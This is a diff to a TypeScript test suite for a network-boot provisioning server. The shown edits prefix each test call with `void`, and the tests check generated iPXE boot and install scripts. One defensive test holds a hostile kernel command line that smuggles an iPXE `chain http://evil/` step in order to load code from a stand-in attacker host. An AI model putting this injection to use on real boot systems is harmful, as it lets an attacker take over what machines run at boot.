@@ -23,7 +23,7 @@ function golden(name: string, actual: string): void {
 
 const req = (mac: string, query: Record<string, string> = {}) => ({ mac, query, clientAddress: '10.77.0.50' });
 
-test('golden: bootstrap', () => {
+void test('golden: bootstrap', () => {
   const r = rig();
   try {
     golden('bootstrap', String(r.policy.bootstrapScript('10.77.0.50').body));
@@ -32,7 +32,7 @@ test('golden: bootstrap', () => {
   }
 });
 
-test('golden: install scripts (custom, ubuntu, nixos)', async () => {
+void test('golden: install scripts (custom, ubuntu, nixos)', async () => {
   for (const host of ['lab1', 'ubu1', 'nix1']) {
     const r = rig();
     try {
@@ -45,7 +45,7 @@ test('golden: install scripts (custom, ubuntu, nixos)', async () => {
   }
 });
 
-test('golden: local boot (BIOS sanboot, EFI exit)', async () => {
+void test('golden: local boot (BIOS sanboot, EFI exit)', async () => {
   for (const platform of ['pcbios', 'efi']) {
     const r = rig();
     try {
@@ -60,7 +60,7 @@ test('golden: local boot (BIOS sanboot, EFI exit)', async () => {
   }
 });
 
-test('golden: discovered, unknown, failed', async () => {
+void test('golden: discovered, unknown, failed', async () => {
   const r = rig();
   try {
     r.registry.machineCreate({ mac: MAC, host: null, state: 'discovered' });
@@ -75,7 +75,7 @@ test('golden: discovered, unknown, failed', async () => {
   }
 });
 
-test('a hostile custom command line never reaches a script: the machine gets a refusal naming the argument', async () => {
+void test('a hostile custom command line never reaches a script: the machine gets a refusal naming the argument', async () => {
   const bad = hostSpec('evil', 'custom');
   bad.install.custom = { kernel: 'lab/vmlinuz', initrds: ['lab/initrd.gz'], cmdline: 'console=ttyS0 x=${net0/ip} || chain http://evil/' };
   const r = rig({}, [bad]);
@@ -97,7 +97,7 @@ test('a hostile custom command line never reaches a script: the machine gets a r
   }
 });
 
-test('renderInstall adds initrd=<name> per initrd, keeps an explicit one, refuses colliding names', () => {
+void test('renderInstall adds initrd=<name> per initrd, keeps an explicit one, refuses colliding names', () => {
   const base = { mac: MAC, hostname: 'h', os: 'custom', bootId: 'b', kernelUrl: 'http://10.0.0.1/k' };
   const one = renderInstall({ ...base, initrdUrls: ['http://10.0.0.1/a/initrd.gz', 'http://10.0.0.1/b/extra.cpio'], args: ['quiet'] });
   assert.match(one, /^kernel http:\/\/10\.0\.0\.1\/k initrd=initrd\.gz initrd=extra\.cpio quiet \|\| goto pxed-fail$/m);
